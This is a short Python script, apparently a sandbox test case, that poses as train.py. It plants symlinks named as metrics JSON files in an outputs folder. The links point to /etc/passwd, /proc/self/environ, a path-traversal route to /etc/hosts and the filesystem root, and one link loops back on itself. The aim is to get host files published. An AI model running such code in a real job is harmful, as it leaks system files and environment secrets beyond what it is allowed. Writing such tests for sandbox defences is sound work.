# wants: have a file of the host published through a link
# caught by: sandbox
# as: train.py
import os

os.makedirs("outputs", exist_ok=True)
for number, target in enumerate(("/etc/passwd", "/proc/self/environ", "../../../../etc/hosts", "/")):
    os.symlink(target, f"outputs/metrics_{number}.json")
os.symlink("outputs", "outputs/loop")
